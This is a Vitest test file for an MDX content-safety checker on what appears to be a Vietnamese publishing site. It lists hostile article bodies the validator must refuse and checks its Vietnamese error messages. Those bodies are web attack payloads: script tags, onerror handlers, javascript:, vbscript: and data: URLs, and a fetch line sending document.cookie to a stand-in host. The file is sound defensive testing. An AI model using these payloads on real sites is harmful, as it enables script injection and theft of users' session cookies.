import { describe, expect, test } from 'vitest';
import { checkMdxSafety } from '../../src/content-rules/rules/mdx-safety.ts';

const messages = (body: string) => checkMdxSafety(body, 20, 'stories/a.mdx').map((p) => `${p.line} ${p.message}`);

/** Bodies a contributor might paste, by mistake or on purpose; each must be refused. */
const HOSTILE: [string, string][] = [
  ['an import', "import Evil from '../../src/evil.astro'\n\nVăn bản."],
  ['an export', 'export const x = 1\n\nVăn bản.'],
  ['an inline expression', 'Năm nay {new Date().getFullYear()} rồi.'],
  ['code hidden after a comment', 'Chữ {/* ghi chú */ alert(1)} chữ.'],
  ['two comments around code', '{/* a */ alert(1) /* b */}'],
  ['a block expression', '{fetch("https://evil.example/?c=" + document.cookie)}'],
  ['a script element', '<script>alert(1)</script>'],
  ['an inline script element', 'Chữ <script>alert(1)</script> chữ.'],
  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
  ['a style element', '<style>{"body{display:none}"}</style>'],
  ['an image with onerror', '<img src="x" onError="alert(1)" />'],
  ['a plain HTML link', '<a href="https://example.org">xem</a>'],
  ['a javascript: JSX link', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript: Markdown link', '[bấm vào đây](javascript:alert(1))'],
  ['a mixed-case javascript: link', '[bấm](JaVaScRiPt:alert(1))'],
  ['a data: URL link', '[tải](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a javascript: image', '![ảnh](javascript:alert(1))'],
  ['a javascript: reference definition', 'Xem [trang][a].\n\n[a]: javascript:alert(1)'],
  ['a vbscript: link', '[x](vbscript:msgbox(1))'],
  ['a protocol-relative link', '[x](//evil.example/a)'],
  ['an event handler on an allowed component', '<TrichDan onClick="alert(1)">Lời hay</TrichDan>'],
  ['an expression attribute on an allowed component', '<TrichDan nguoiNoi={window.name}>Lời hay</TrichDan>'],
  ['a spread attribute', '<TrichDan {...props}>Lời hay</TrichDan>'],
  ['an unknown attribute', '<TrichDan style="color:red">Lời hay</TrichDan>'],
  ['a video with a URL instead of an id', '<Video youtube="https://www.youtube.com/watch?v=dQw4w9WgXcQ" tieuDe="Phóng sự" />'],
  ['a video with two sources', '<Video youtube="dQw4w9WgXcQ" facebook="1234567890" tieuDe="Phóng sự" />'],
  ['a video without a title', '<Video youtube="dQw4w9WgXcQ" />'],
  ['a figure without credit', '<HinhAnh chuThich="Cánh đồng">![Cánh đồng](./anh.jpg)</HinhAnh>'],
  ['a fragment', '<>Văn bản</>'],
  ['an svg with script', '<svg><script>alert(1)</script></svg>'],
  ['dangerouslySetInnerHTML', '<div dangerouslySetInnerHTML={{ __html: "<b>x</b>" }} />'],
  ['an object element', '<object data="evil.swf"></object>'],
  ['a form', '<form action="https://evil.example"><input name="q" /></form>'],
  ['an unclosed tag (syntax error)', 'Giá lúa <tăng mạnh.'],
  ['an HTML comment (syntax error in MDX)', '<!-- ghi chú -->\n\nVăn bản.'],
];

describe('MDX safety', () => {
  test.each(HOSTILE)('refuses %s', (_, body) => {
    expect(messages(body).length).toBeGreaterThan(0);
  });

  test('plain Markdown and the allowed components pass', () => {
    const body = [
      '## Một tiêu đề',
      '',
      'Đoạn văn có **chữ đậm**, *nghiêng*, [liên kết](https://example.org/trang) và [liên kết trong trang](/linh-vuc/y-te/).',
      '',
      '- một',
      '- hai',
      '',
      '<TrichDan nguoiNoi="Ông Trần Văn A">Làm thật, nói thật.</TrichDan>',
      '',
      '<HinhAnh chuThich="Cánh đồng mẫu" nguon="Ảnh: Báo tỉnh">![Cánh đồng lúa chín](./anh-2.jpg)</HinhAnh>',
      '',
      '<Video youtube="dQw4w9WgXcQ" tieuDe="Phóng sự về mô hình" />',
      '',
      '<Video facebook="1234567890123" tieuDe="Phóng sự trên Facebook" />',
      '',
      'Đoạn cuối của bài. {/* ghi chú cho Ban biên tập: ảnh sẽ gửi sau */}',
    ].join('\n');
    expect(messages(body)).toEqual([]);
  });

  test('messages name the file line and say what to do, in Vietnamese', () => {
    expect(messages('Dòng một.\n\n<script>alert(1)</script>')).toMatchInlineSnapshot(`
      [
        "22 Bài viết không được dùng thẻ <script>. Chỉ dùng được chữ Markdown và các thành phần: <TrichDan>, <HinhAnh>, <Video>.",
      ]
    `);
    expect(messages('[bấm](javascript:alert(1))')).toMatchInlineSnapshot(`
      [
        "20 Đường dẫn “javascript:alert(1)” không an toàn. Chỉ dùng đường dẫn bắt đầu bằng https:// (hoặc đường dẫn tới ảnh cạnh bài).",
      ]
    `);
    expect(messages("import X from 'y'")).toMatchInlineSnapshot(`
      [
        "20 Bài viết không được có dòng “import” hay “export”. Các thành phần TrichDan, HinhAnh, Video dùng được ngay mà không cần import.",
      ]
    `);
    expect(messages('<Video youtube="abc" tieuDe="Phóng sự" />')).toMatchInlineSnapshot(`
      [
        "20 “abc” không phải mã video YouTube. Mã gồm 11 ký tự, ví dụ trong youtube.com/watch?v=dQw4w9WgXcQ mã là dQw4w9WgXcQ.",
      ]
    `);
  });
});
